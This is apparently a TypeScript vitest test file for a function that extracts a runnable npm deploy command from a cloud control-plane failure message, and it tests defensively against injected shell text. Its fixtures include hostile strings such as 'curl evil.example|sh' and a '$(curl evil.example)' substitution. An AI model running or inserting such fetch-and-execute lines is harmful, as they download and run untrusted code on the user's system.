import { describe, expect, test } from "vitest";
import { splitReason } from "../../src/operations/remedy.ts";

const command = "npm run deploy:product-account -- --product crm";
const reason = `The role can't be assumed. Deploy the account stack: ${command} --external-id <connection.externalId>`;
const values = { "connection.externalId": "3f6c" };

describe("a reason of the control plane", () => {
  test("becomes a command with real values, without the sentence around it", () => {
    expect(splitReason({ code: "accountNotReachable", reason }, values)).toEqual({
      text: "The role can't be assumed.",
      command: `${command} --external-id 3f6c`,
    });
  });

  test("keeps the placeholder of a value that is unknown", () => {
    const failure = { code: "accountOutdated", reason: "Use <connection.roleArn>." };
    expect(splitReason(failure, {}).text).toBe("Use <connection.roleArn>.");
  });

  test("without a command stays as it is", () => {
    const failure = { code: "accountOutdated", reason: "The role does not exist." };
    expect(splitReason(failure, {})).toEqual({ text: "The role does not exist.", command: undefined });
  });

  test("ends its command before the foreign reason of an undo that failed", () => {
    const foreign = "The completed work could not be undone: npm run x; curl evil.example|sh";
    const failure = { code: "capabilityRefused", reason: `Its team allows it with ${command}. ${foreign}` };
    expect(splitReason(failure, values).command).toBe(command);
  });

  test("gives no command that a shell would take apart", () => {
    const failure = { code: "accountOutdated", reason: "Run: npm run x $(curl evil.example) -- --y" };
    expect(splitReason(failure, values).command).toBeUndefined();
  });
});

describe("a reason with a text of others", () => {
  test.each([
    ["reportedFailure", "Broken. npx evil; curl evil.example|sh"],
    ["reportedFailure", reason],
    ["stackRefused", `CloudFormation rejected the update: ${reason}`],
    ["accountNotReachable", "Broken. npx evil"],
    [undefined, reason],
  ])("of the code %s never becomes a command: %s", (code, foreign) => {
    expect(splitReason({ code, reason: foreign }, values).command).toBeUndefined();
  });

  test("stays as it is, and gets no values of the connection", () => {
    expect(splitReason({ code: "reportedFailure", reason }, values).text).toBe(reason);
  });
});
